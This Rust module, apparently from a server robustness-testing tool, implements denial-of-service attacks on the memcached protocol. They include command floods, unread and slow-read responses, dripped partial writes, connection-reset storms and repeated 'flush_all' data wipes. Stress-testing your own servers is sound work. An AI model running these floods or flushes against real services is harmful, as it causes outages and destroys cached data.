//! Attacks on memcached's protocol. They work against memcached, too.

use crate::connections::{ReadBehaviour, connect, connect_and_reset, drip as drip_bytes, flood, send_once};
use crate::target::Target;
use std::io::{Read, Write};

/// Length of a value near the limit, in bytes.
const LARGE: usize = 1_000_000;

fn large_set(suffix: &str) -> Vec<u8> {
    [format!("set big 0 0 {LARGE}{suffix}\r\n").into_bytes(), vec![b'x'; LARGE], b"\r\n".to_vec()].concat()
}

fn store_large(target: &Target) {
    if let Some(mut stream) = connect(target) {
        let _ = stream.write_all(&large_set(""));
        let _ = stream.read(&mut [0; 16]);
    }
}

pub(crate) fn noops(target: &Target) -> String {
    flood(target, 8, b"", &b"mn\r\n".repeat(5_000), ReadBehaviour::All)
}

pub(crate) fn version(target: &Target) -> String {
    flood(target, 1, b"", &b"version\r\n".repeat(5_000), ReadBehaviour::All)
}

pub(crate) fn stats(target: &Target) -> String {
    flood(target, 1, b"", &b"stats\r\n".repeat(500), ReadBehaviour::All)
}

pub(crate) fn junk(target: &Target) -> String {
    flood(target, 1, b"", &b"xyzzy\r\n".repeat(5_000), ReadBehaviour::All)
}

pub(crate) fn noreply(target: &Target) -> String {
    flood(target, 8, b"", &b"set nr 0 0 1 noreply\r\nx\r\n".repeat(2_000), ReadBehaviour::All)
}

pub(crate) fn get_one(target: &Target) -> String {
    flood(target, 1, b"", &b"get h1\r\n".repeat(2_000), ReadBehaviour::All)
}

pub(crate) fn gets(target: &Target) -> String {
    flood(target, 8, b"", &b"get h1\r\n".repeat(2_000), ReadBehaviour::All)
}

pub(crate) fn keys(target: &Target) -> String {
    let line = format!("get{}\r\n", " h1 h2 h3".repeat(200));
    flood(target, 4, b"", &line.into_bytes().repeat(20), ReadBehaviour::All)
}

pub(crate) fn big_sets(target: &Target) -> String {
    flood(target, 4, b"", &large_set(" noreply"), ReadBehaviour::All)
}

pub(crate) fn unread(target: &Target) -> String {
    store_large(target);
    flood(target, 50, b"", &b"get big\r\n".repeat(200), ReadBehaviour::Nothing)
}

pub(crate) fn unread_crowd(target: &Target) -> String {
    store_large(target);
    flood(target, 1_000, b"", &b"get big\r\n".repeat(200), ReadBehaviour::Nothing)
}

pub(crate) fn unread_sets(target: &Target) -> String {
    flood(target, 1_000, b"", &b"set unread 0 0 1\r\nx\r\n".repeat(1_000), ReadBehaviour::Nothing)
}

pub(crate) fn slow_crowd(target: &Target) -> String {
    store_large(target);
    flood(target, 400, b"", b"get big\r\n", ReadBehaviour::Slowly(100))
}

pub(crate) fn slow(target: &Target) -> String {
    store_large(target);
    flood(target, 20, b"", b"get big\r\n", ReadBehaviour::Slowly(1_000))
}

pub(crate) fn half(target: &Target) -> String {
    send_once(target, 300, &[format!("set half 0 0 {LARGE}\r\n").into_bytes(), vec![b'x'; 900_000]].concat())
}

pub(crate) fn drip(target: &Target) -> String {
    drip_bytes(target, 200, format!("set drip 0 0 {LARGE}\r\nxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx").as_bytes())
}

pub(crate) fn storm(target: &Target) -> String {
    connect_and_reset(target, b"get a\r\n")
}

pub(crate) fn churn(target: &Target) -> String {
    connect_and_reset(target, &b"get h1\r\n".repeat(100))
}

pub(crate) fn flush(target: &Target) -> String {
    flood(target, 4, b"", &b"flush_all noreply\r\n".repeat(1_000), ReadBehaviour::All)
}
